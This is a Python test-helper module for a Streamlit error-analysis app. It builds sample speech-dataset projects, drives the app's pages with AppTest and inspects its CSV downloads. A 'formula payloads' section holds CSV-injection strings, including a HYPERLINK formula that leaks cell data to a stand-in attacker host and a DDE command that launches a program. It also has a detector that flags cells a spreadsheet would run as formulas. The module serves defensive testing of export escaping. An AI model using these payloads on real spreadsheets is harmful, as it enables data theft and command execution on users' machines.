"""What every page test shares: a small project built through the real importer, and helpers.

Each page test builds a small project file in ``tmp_path`` from a CSV (through the real
importer), points the app at it with ``$ERRORANALYSIS_DB`` and drives it with Streamlit's
AppTest. AppTest reruns the whole script on every interaction, so these tests check what
the pages do, not how fast fragments rerun (the browser tests and benchmarks do that).
"""

from __future__ import annotations

import csv
import io
import json
import wave
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from PIL import Image
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from erroranalysis.importing import read_dataset
from erroranalysis.store import open_project

ROOT = Path(__file__).resolve().parent.parent

APP = str(ROOT / "app.py")
DATASET = "speech"
REVIEWER = "ana"
CLASSES = ["yes", "no", "up"]
N = 40


def _wav(path: Path) -> None:
    with wave.open(str(path), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(np.zeros(800, dtype=np.int16).tobytes())


def speech_frame() -> pd.DataFrame:
    """40 examples, every fourth one an error (s00, s04, ..., s36); car noise on every fifth."""
    rng = np.random.default_rng(0)
    labels = [CLASSES[i % 3] for i in range(N)]
    predictions = [CLASSES[(i + 1) % 3] if i % 4 == 0 else labels[i] for i in range(N)]
    return pd.DataFrame(
        {
            "id": [f"s{i:02d}" for i in range(N)],
            "label": labels,
            "prediction": predictions,
            "confidence": np.round(rng.uniform(0.3, 1.0, N), 3),
            "text": [
                f"utterance number {i} <b>bold?</b> ![x](http://example.invalid/x.png)"
                for i in range(N)
            ],
            "audio": [f"clips/s{i:02d}.wav" for i in range(N)],
            "snr_db": np.arange(N, dtype=float),
            "noise": ["car" if i % 5 == 0 else "clean" for i in range(N)],
            "tags": ["clipped" if i % 10 == 0 else "" for i in range(N)],
        }
    )


def build_project(folder: Path) -> Path:
    """A project with one speech dataset, two defined tags and one reviewed error."""
    clips = folder / "clips"
    clips.mkdir(parents=True, exist_ok=True)
    for i in range(N):
        _wav(clips / f"s{i:02d}.wav")
    csv = folder / "speech.csv"
    speech_frame().to_csv(csv, index=False)
    result = read_dataset(csv)
    db = folder / "project.db"
    with open_project(db) as project:
        project.dataset(DATASET, create=True).import_result(result, actor="setup")
        project.define_tag("car noise", actor="setup", description="engine hum", hlp=0.95)
        project.define_tag("people noise", actor="setup", hlp=0.9, effort=2.0)
        project.dataset(DATASET).set_tag("s04", "car noise", actor="setup")
        project.dataset(DATASET).record_review("s04", reviewer="setup", queue="error")
    return db


def project_file_of(build: Callable[[Path], Path]):
    """A ``project_file`` fixture: the project file ``build`` makes in the test's folder,
    the one the app opens (``$ERRORANALYSIS_DB``)."""

    @pytest.fixture
    def project_file(tmp_path, monkeypatch) -> Path:
        db = build(tmp_path)
        monkeypatch.setenv("ERRORANALYSIS_DB", str(db))
        return db

    return project_file


def png_bytes() -> bytes:
    sink = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(sink, format="PNG")
    return sink.getvalue()


def start_app() -> AppTest:
    """The app on the project ``$ERRORANALYSIS_DB`` names, run once, the reviewer's name
    filled in."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["reviewer"] = REVIEWER
    return at.run()


def open_page(at: AppTest, page: str, **query: str) -> AppTest:
    for key, value in query.items():
        at.query_params[key] = value
    at.switch_page(f"app_pages/{page}.py")
    return at.run()


# The key of each page's tabs (``st.tabs(..., key=KEY, on_change="rerun")``).
TAB_KEYS = {"priorities": "pr_section"}
PRIORITY_TABS = ["Ranking", "Where the errors are", "Tag overlap"]


def open_tab(at: AppTest, page: str, label: str) -> AppTest:
    """``at`` after the user opens the tab ``label`` of ``page`` (the click reruns it)."""
    at.session_state[TAB_KEYS[page]] = label
    return at.run()


def open_view(at: AppTest, view: str, **query: str) -> AppTest:
    """Open ``view``: a page (``"priorities"``) or one of its tabs (``"priorities#Tag
    overlap"``)."""
    page, _, tab = view.partition("#")
    at = open_page(at, page, **query)
    return open_tab(at, page, tab) if tab else at


def first_table(at: AppTest) -> pd.DataFrame:
    """The page's first table, as the page shows it."""
    return at.dataframe[0].value


def elements(node: Any) -> Iterator[Any]:
    """Every element (not block) of an AppTest's tree below ``node`` (``at._tree``)."""
    proto = getattr(node, "proto", None)
    if proto is not None and getattr(node, "type", None) not in (None, "block"):
        yield node
    for child in getattr(node, "children", {}).values():
        yield from elements(child)


def vega_charts(at: AppTest) -> dict[str, tuple[dict, pd.DataFrame]]:
    """The page's Vega-Lite charts by title: (specification, the data it draws). Streamlit
    sends a chart's rows apart from its specification, as Arrow."""
    charts = {}
    for element in elements(at._tree):
        if element.type == "vega_lite_chart":
            spec = json.loads(element.proto.spec)
            rows = pa.ipc.open_stream(element.proto.data.data).read_all().to_pandas()
            charts[spec["title"]["text"]] = (spec, rows)
    return charts


def no_errors(at: AppTest) -> None:
    assert not at.exception, [e.message for e in at.exception]


# ---------------------------------------------------------------------- formula payloads
# What a spreadsheet runs as a formula when a cell begins with it (OWASP ASVS 1.2.10).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
# Names refuse control characters, so tags, reviewers and runs carry the printable ones.
PRINTABLE_FORMULAS = FORMULAS[:4]
FORMULA_DATASET = "@SUM(1)"
FORMULA_RUN = "-2+3"
REVIEWED_FORMULA_TAGS = ("=1+1", "+1+1", "-1+1", "@tag")


def formula_frame() -> pd.DataFrame:
    """Eight examples whose every text field begins like a formula: ids, labels, predictions,
    text, a metadata column (named like one too) and dataset tags; ``snr_db`` holds negative
    numbers, which must stay numbers."""
    f = FORMULAS
    return pd.DataFrame(
        {
            "id": [*f, "p1", "p2"],
            "label": [f[0], f[1], f[2], f[3], "yes", "yes", f[0], "no"],
            "prediction": [f[1], f[0], "yes", "yes", "no", "yes", f[0], "yes"],
            "text": [*f, "plain", f[0]],
            "@cmd": [*f, "x", f[1]],
            "snr_db": [-3.5, 2.0, -1.0, 0.0, 4.0, 5.0, 6.0, -7.25],
            "tags": [f[0], f[1], f[2], f[3], "", "", f[1], ""],
        }
    )


def build_formula_project(folder: Path) -> Path:
    """A project where a formula payload sits in every text field a table can show: the
    dataset, run, source file and importer names, ids, labels, metadata, dataset and
    reviewed tag names, tag definitions, reviewer names, notes and corrected labels."""
    folder.mkdir(parents=True, exist_ok=True)
    data = folder / "=1+1.parquet"
    formula_frame().to_parquet(data, index=False)
    db = folder / "formulas.db"
    f = FORMULAS
    with open_project(db) as project:
        project.dataset(FORMULA_DATASET, create=True).import_result(
            read_dataset(data), run=FORMULA_RUN, actor=f[1]
        )
        for i, tag in enumerate(REVIEWED_FORMULA_TAGS):
            project.define_tag(tag, actor=f[3], description=f[i], hlp=0.9)
        reviews = [(f[0], f[0], f[4]), (f[1], f[1], f[5]), (f[2], f[3], f[0]), ("p1", f[2], f[1])]
        for i, (example, reviewer, note) in enumerate(reviews):
            project.dataset(FORMULA_DATASET).set_tag(
                example, REVIEWED_FORMULA_TAGS[i], actor=reviewer
            )
            project.dataset(FORMULA_DATASET).record_review(
                example,
                reviewer=reviewer,
                note=note,
                queue="error",
                label_wrong=True,
                corrected_label=f[i],
            )
        # An untagged reviewed error: its row (snr_db -7.25) is in the untagged-errors table.
        project.dataset(FORMULA_DATASET).record_review(
            "p2", reviewer=f[3], note=f[3], queue="error"
        )
    return db


def rows_of_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def unsafe_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula: beginning with
    ``=``, ``+``, ``@``, tab or carriage return, or with ``-`` unless the cell is a number."""
    found = []
    for row in rows_of_csv(text):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not (cell[0] == "-" and _is_number(cell)):
                found.append(cell)
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------- downloads
def record_downloads(monkeypatch) -> dict[str, tuple[str | None, Callable[[], object]]]:
    """Keep every deferred download the app registers (file id -> file name, callable), so a
    test can build the file a click would send: AppTest's runtime drops them after a run."""
    made: dict[str, tuple[str | None, Callable[[], object]]] = {}
    original = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        file_id = original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
        made[file_id] = (file_name, data_callable)
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return made


def downloads(at: AppTest, made: dict, *, format: str = "csv") -> dict[str, tuple[str, Any]]:
    """Every download button of the page in ``format`` (its key ends in ``:format``): key ->
    (file name, what a click sends: the text of a CSV, the bytes of any other file)."""
    files = {}
    for button in at.get("download_button"):
        if not button.key.endswith(f":{format}"):
            continue
        name, build = made[button.proto.deferred_file_id]
        data = build()
        if format == "csv" and isinstance(data, bytes):
            data = data.decode()
        files[button.key] = (name, data)
    return files


# ---------------------------------------------------------------------- thousands of tags
def add_many_tags(db: Path, n: int) -> list[str]:
    """``n`` reviewed tags ("many 0000", ...) with an HLP, spread over the reviewed examples of
    the speech project (every one of the 40 reviewed), so each has a marginal effect."""
    names = [f"many {i:04d}" for i in range(n)]
    with open_project(db) as project:
        for i in range(N):
            project.dataset(DATASET).record_review(
                f"s{i:02d}",
                reviewer="setup",
                queue="error" if i % 4 == 0 else "correct",
                tags=names[i::N],
            )
        for i, name in enumerate(names):
            project.define_tag(name, actor="setup", hlp=0.9 + (i % 10) / 100)
    return names
